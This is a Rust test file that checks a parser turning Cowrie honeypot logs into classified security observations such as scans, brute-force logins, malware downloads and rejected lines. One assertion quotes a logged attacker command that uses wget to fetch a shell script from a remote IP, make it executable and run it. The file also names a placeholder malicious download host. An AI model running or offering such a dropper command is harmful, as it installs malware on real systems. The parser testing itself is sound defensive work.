use expect_test::expect_file;
use kizuna_model::{ClassificationType as C, LegalBasis, Taxonomy, Timestamp, Tlp};
use kizuna_parsers::{Context, Format};
use serde_json::json;

use crate::common::*;

#[test]
fn cowrie_fixture() {
    let items = run(&Format::Cowrie, &ctx("cowrie.json"), &fixture("cowrie/cowrie.json"));
    expect_file!["../fixtures/cowrie/cowrie.expected"].assert_eq(&render(&items));
    // 28 lines, one blank: 12 observations, 9 skipped eventids, 6 rejects.
    assert_eq!(counts(&items), (12, 9, 6));
    assert_eq!(
        skips(&items),
        [
            "cowrie.client.version",
            "cowrie.client.kex",
            "cowrie.session.params",
            "cowrie.session.file_download.failed",
            "cowrie.log.closed",
            "cowrie.session.closed",
            "cowrie.direct-tcpip.request",
            "cowrie.session.closed",
            "cowrie.made.up",
        ]
    );

    let obs = observations(&items);
    let connect = obs[0];
    assert_eq!(connect.classification.kind, C::Scanner);
    assert_eq!(connect.classification.taxonomy, Taxonomy::InformationGathering);
    assert_eq!(connect.classification.identifier.as_deref(), Some("honeypot-connection"));
    assert_eq!(connect.source.ip, Some("203.0.113.45".parse().unwrap()));
    assert_eq!(connect.source.port, Some(53422));
    assert_eq!(connect.destination.ip, Some("192.0.2.10".parse().unwrap()));
    assert_eq!(connect.destination.port, Some(2222));
    assert_eq!(connect.protocol.application.as_deref(), Some("ssh"));
    assert_eq!(connect.protocol.transport.as_deref(), Some("tcp"));
    assert_eq!(connect.time_source, Some(Timestamp::from_micros(1_772_668_810_123_456)));
    assert_eq!(connect.time_observation, OBSERVED);
    assert_eq!(connect.feed.name, "cowrie");
    assert_eq!(connect.tlp, Tlp::Amber);
    assert_eq!(connect.legal_basis, LegalBasis::LegitimateBusiness);
    assert_eq!(extra(connect, "cowrie.session"), &json!("a3f1c9e2b7d4"));
    assert_eq!(extra(connect, "cowrie.sensor"), &json!("hp-tokyo-01"));
    assert_eq!(extra(connect, "cowrie.protocol"), &json!("ssh"));

    let failed = obs[1];
    assert_eq!(failed.classification.kind, C::BruteForce);
    assert_eq!(failed.classification.identifier.as_deref(), Some("login-failed"));
    assert_eq!(failed.destination.account.as_deref(), Some("root"));
    assert_eq!(extra(failed, "cowrie.username"), &json!("root"));
    assert_eq!(extra(failed, "cowrie.password"), &json!("123456"));

    // Escaped credentials: valid UTF-8 after unescaping is unescaped, the rest kept as logged.
    let escaped = obs[2];
    assert_eq!(escaped.destination.account.as_deref(), Some("été"));
    assert_eq!(extra(escaped, "cowrie.password"), &json!(r"pa\\ss\xff"));

    assert_eq!(obs[3].classification.identifier.as_deref(), Some("login-success"));
    assert_eq!(obs[3].classification.kind, C::BruteForce);

    let cmd = obs[4];
    assert_eq!(cmd.classification.kind, C::InfectedSystem);
    assert_eq!(
        extra(cmd, "cowrie.input"),
        &json!("cd /tmp || cd /var/run; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; sh bins.sh")
    );

    let dl = obs[5];
    assert_eq!(dl.classification.kind, C::MalwareDistribution);
    assert_eq!(dl.source.url.as_deref(), Some("http://198.51.100.23/bins.sh"));
    assert_eq!(dl.source.ip, Some("198.51.100.23".parse().unwrap()));
    assert_eq!(dl.malware.sha256.as_deref(), Some("a8f5c1e4d2b3a4958677e6f1c2d3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f"));
    assert_eq!(extra(dl, "cowrie.src_ip"), &json!("203.0.113.45"));

    // Shell redirection: a file_download without url.
    let redir = obs[7];
    assert_eq!(redir.classification.kind, C::InfectedSystem);
    assert_eq!(redir.classification.identifier.as_deref(), Some("honeypot-file-write"));
    assert_eq!(redir.source.ip, Some("203.0.113.45".parse().unwrap()));
    assert_eq!(redir.source.url, None);
    assert_eq!(extra(redir, "cowrie.destfile"), &json!("/tmp/.x"));

    let dl2 = obs[8];
    assert_eq!(dl2.source.fqdn.as_deref(), Some("dl.bad.example"));
    assert_eq!(dl2.source.port, Some(8080));
    assert_eq!(dl2.source.ip, None);

    let v6 = obs[9];
    assert_eq!(v6.source.ip, Some("2001:db8:70::1:2".parse().unwrap()));
    assert_eq!(v6.protocol.application.as_deref(), Some("telnet"));

    let upload = obs[11];
    assert_eq!(upload.classification.identifier.as_deref(), Some("honeypot-file-upload"));
    assert_eq!(extra(upload, "cowrie.filename"), &json!("x86_64"));

    let rej = rejects(&items);
    let lines: Vec<u64> = rej.iter().map(|r| r.line).collect();
    assert_eq!(lines, [23, 24, 25, 26, 27, 28]);
    assert!(rej.iter().all(|r| r.source_name == "cowrie.json" && !r.raw.is_empty()));
    assert_eq!(rej[1].reason, "src_ip: missing");
    assert_eq!(rej[2].reason, "timestamp: invalid time \"sometime yesterday\"");
    assert_eq!(rej[3].reason, "src_ip: invalid IP address \"203.0.113.300\"");
    assert_eq!(rej[4].reason, "eventid: missing");
    assert_eq!(rej[5].reason, "src_port: invalid port 70000");
}

#[test]
fn context_overrides() {
    let ctx = Context {
        tlp: Some(Tlp::Green),
        legal_basis: LegalBasis::Consent,
        feed_name: Some("honeynet-jp".into()),
        feed_provider: Some("Example ISAC".into()),
        ..ctx("-")
    };
    let items = run(&Format::Cowrie, &ctx, &fixture("cowrie/cowrie.json"));
    for o in observations(&items) {
        assert_eq!(o.tlp, Tlp::Green);
        assert_eq!(o.legal_basis, LegalBasis::Consent);
        assert_eq!(o.feed.name, "honeynet-jp");
        assert_eq!(o.feed.provider.as_deref(), Some("Example ISAC"));
    }
    assert!(rejects(&items).iter().all(|r| r.source_name == "-"));
}
